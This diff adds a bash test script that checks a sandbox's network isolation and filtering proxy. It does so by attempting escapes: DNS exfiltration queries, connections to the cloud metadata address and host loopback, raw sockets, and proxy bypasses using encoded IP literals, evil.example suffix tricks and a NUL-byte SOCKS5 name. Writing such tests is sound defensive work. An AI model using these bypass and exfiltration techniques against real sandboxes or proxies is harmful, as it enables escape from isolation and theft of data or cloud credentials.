@@ -1,0 +1,143 @@
+#!/bin/bash
+# SPDX-License-Identifier: LGPL-2.1-or-later
+# Reaching the network other than through the filtering proxy: DNS (exfiltration through
+# look-ups), direct TCP/UDP, IPv6, the cloud metadata address, services on the host's
+# loopback, raw and ICMP sockets, reconfiguring the sandbox's own network; and, with --net
+# proxy, fooling the proxy (IP literals in other notations, suffix tricks, NUL bytes in a
+# SOCKS5 name, the metadata address, TLS SNI differing from the CONNECT host).
+#
+# Layers under test: the network namespace with only lo (no route, no resolver, no host
+# loopback), no capabilities in it (raw sockets, netlink changes), the ping group range of
+# a fresh namespace; the proxy's filter.
+# shellcheck source=tests/lib.sh disable=SC2016
+. "$(dirname "$0")/../lib.sh"
+require_sandbox
+require_python
+
+# probe ARGS...: run the python below inside with --net none; OUT = its lines.
+NETPY='
+import errno, socket, sys
+def err(x):
+    return errno.errorcode.get(x.errno, str(x.errno)) if isinstance(x.errno, int) and x.errno > 0 else str(x)
+def tcp(host, port, fam=socket.AF_INET):
+    s = socket.socket(fam, socket.SOCK_STREAM)
+    s.settimeout(5)
+    try:
+        s.connect((host, port)); return "connected"
+    except OSError as x: return err(x)
+def udp(host, port, fam=socket.AF_INET):
+    s = socket.socket(fam, socket.SOCK_DGRAM)
+    s.settimeout(2)
+    try:
+        s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04exfil\x07example\x03com\x00\x00\x01\x00\x01", (host, port))
+        s.recv(512); return "answered"
+    except OSError as x: return err(x)
+def lookup(name):
+    try:
+        socket.getaddrinfo(name, 80); return "resolved"
+    except socket.gaierror as x: return "EAI %d" % x.errno
+for a in sys.argv[1:]:
+    kind, _, rest = a.partition(":")
+    if kind == "tcp": h, p = rest.rsplit(":", 1); print(a, tcp(h, int(p)))
+    elif kind == "tcp6": h, p = rest.rsplit(":", 1); print(a, tcp(h, int(p), socket.AF_INET6))
+    elif kind == "udp": h, p = rest.rsplit(":", 1); print(a, udp(h, int(p)))
+    elif kind == "lookup": print(a, lookup(rest))
+'
+declare -A NET
+probe() {
+	local k v
+	NET=()
+	hrun run --net none -- "$PY" -c "$NETPY" "$@"
+	while read -r k v; do
+		NET[$k]=$v
+	done <<<"$OUT"
+}
+
+# ---- DNS exfiltration -------------------------------------------------------------------------
+RESOLVER=$(awk '$1 == "nameserver" { print $2; exit }' /etc/resolv.conf 2>/dev/null)
+RESOLVER=${RESOLVER:-127.0.0.53}
+NAME=exfil-$(od -An -N6 -tx1 /dev/urandom | tr -d " \n").example.com
+probe "lookup:$NAME" "udp:$RESOLVER:53" "tcp:$RESOLVER:53" "udp:8.8.8.8:53"
+# glibc: EAI_AGAIN (-3) when no server answered, EAI_NONAME (-2) without any resolver.
+like "${NET[lookup:$NAME]}" '^EAI -(3|2)$' "a DNS look-up of a name carrying data fails (${NET[lookup:$NAME]}: no resolver reachable)"
+case $RESOLVER in
+127.*)
+	is "${NET[udp:$RESOLVER:53]}" ECONNREFUSED "the host's resolver $RESOLVER:53 over UDP -> ECONNREFUSED (the sandbox's own lo)"
+	is "${NET[tcp:$RESOLVER:53]}" ECONNREFUSED "  and over TCP -> ECONNREFUSED"
+	;;
+*)
+	is "${NET[udp:$RESOLVER:53]}" ENETUNREACH "the host's resolver $RESOLVER:53 over UDP -> ENETUNREACH"
+	is "${NET[tcp:$RESOLVER:53]}" ENETUNREACH "  and over TCP -> ENETUNREACH"
+	;;
+esac
+is "${NET[udp:8.8.8.8:53]}" ENETUNREACH "a public resolver (8.8.8.8:53) -> ENETUNREACH"
+
+# ---- direct connections, IPv6, metadata, host loopback -------------------------------------------
+start_loopback_service
+is "$("$PY" -c "$CONNECT_PY" "127.0.0.1:$SRV_PORT")" HUTCH-HTTP-OK "(control: the host loopback service answers on the host)"
+probe "tcp:1.1.1.1:443" "tcp:169.254.169.254:80" "udp:169.254.169.254:80" "tcp:127.0.0.1:$SRV_PORT" \
+	"tcp:10.0.0.1:22" "tcp6:2606:4700:4700::1111:443" "tcp6:::1:$SRV_PORT" "tcp6:::ffff:1.1.1.1:443"
+is "${NET[tcp:1.1.1.1:443]}" ENETUNREACH "direct TCP to a public address -> ENETUNREACH"
+is "${NET[tcp:169.254.169.254:80]}" ENETUNREACH "the cloud metadata address 169.254.169.254 -> ENETUNREACH"
+is "${NET[udp:169.254.169.254:80]}" ENETUNREACH "  over UDP too"
+is "${NET[tcp:127.0.0.1:$SRV_PORT]}" ECONNREFUSED "the host's loopback service (127.0.0.1:$SRV_PORT) -> ECONNREFUSED"
+is "${NET[tcp:10.0.0.1:22]}" ENETUNREACH "a private range (10.0.0.1) -> ENETUNREACH"
+is "${NET[tcp6:2606:4700:4700::1111:443]}" ENETUNREACH "IPv6: a public address -> ENETUNREACH (no route)"
+is "${NET[tcp6:::1:$SRV_PORT]}" ECONNREFUSED "IPv6: ::1 is the sandbox's own -> ECONNREFUSED"
+is "${NET[tcp6:::ffff:1.1.1.1:443]}" ENETUNREACH "IPv6: an IPv4-mapped public address -> ENETUNREACH"
+hrun run --net none -- sh -c 'cat /proc/net/if_inet6 | awk "{ print \$6 }" | sort | tr "\n" " "'
+is "$(words "$OUT")" "lo" "IPv6: the only interface with an address is lo (::1)"
+
+# ---- raw sockets, ICMP, changing the sandbox's network ----------------------------------------
+hrun run --net none -- "$PY" -c '
+import socket, errno
+for name, args in [("raw", (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
+                   ("raw6", (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)),
+                   ("ping", (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP))]:
+    try:
+        socket.socket(*args); print(name, "created")
+    except OSError as e: print(name, errno.errorcode[e.errno])'
+is "$(words "$OUT")" "raw EPERM raw6 EPERM ping EACCES" \
+	"raw IPv4/IPv6 sockets -> EPERM; ICMP echo sockets -> EACCES (ping_group_range)"
+if command -v ip >/dev/null; then
+	hrun run --net none -- sh -c 'ip link add veth-esc type veth peer name veth-esc1 2>&1;
+		ip route add default dev lo 2>&1; ip addr add 10.9.9.9/24 dev lo 2>&1'
+	is "$(grep -c "Operation not permitted" <<<"$OUT")" 3 \
+		"creating a veth, adding a default route or an address -> EPERM (netlink, no CAP_NET_ADMIN)"
+else
+	skip "ip (iproute2) not installed"
+fi
+
+# ---- --net proxy: fooling the proxy ----------------------------------------------------------------
+hrun run --net proxy -- sh -c 'echo "${HTTP_PROXY:-}"'
+if [ -z "$OUT" ]; then
+	skip "hutch run --net proxy has no proxy engine yet (HTTP_PROXY is not set inside)" 1
+	done_testing
+fi
+PROXY=$OUT
+
+# curl_in ARGS: curl inside with the proxy, printing the status and the X-Hutch-Deny header.
+curl_in() {
+	hrun run -a allowed.hutch.invalid -- curl -sS -m 10 -o /dev/null -D - "$@"
+}
+for target in http://169.254.169.254/latest/meta-data/ http://2852039166/ http://0xA9FEA9FE/ \
+	http://0251.0376.0251.0376/ "http://[::ffff:169.254.169.254]/" http://127.1/ \
+	http://allowed.hutch.invalid.evil.example/ http://evilallowed.hutch.invalid/; do
+	curl_in "$target"
+	like "$OUT" "^HTTP/1\.[01] 403" "proxy: $target -> 403"
+	like "$OUT" "[Xx]-[Hh]utch-[Dd]eny" "  with X-Hutch-Deny naming the rule"
+done
+hrun run -a allowed.hutch.invalid -- curl -sS -m 10 --noproxy '*' http://1.1.1.1/
+like "$ERR" "Failed to connect|Network is unreachable|Couldn't connect" \
+	"proxy mode: curl --noproxy '*' to a public address fails (no route past the proxy)"
+hrun run -a allowed.hutch.invalid -- "$PY" -c '
+import socket
+s = socket.create_connection(("127.0.0.1", 1080), timeout=5)
+s.sendall(b"\x05\x01\x00"); s.recv(2)
+name = b"allowed.hutch.invalid\x00.evil.example"
+s.sendall(b"\x05\x01\x00\x03" + bytes([len(name)]) + name + b"\x00\x50")
+r = s.recv(10); print("reply", r[1] if len(r) > 1 else "closed")'
+is "$OUT" "reply 2" "SOCKS5: a name with a NUL byte (allowed.hutch.invalid\\0.evil.example) -> reply 2 (not allowed)"
+note "proxy at $PROXY"
+
+done_testing
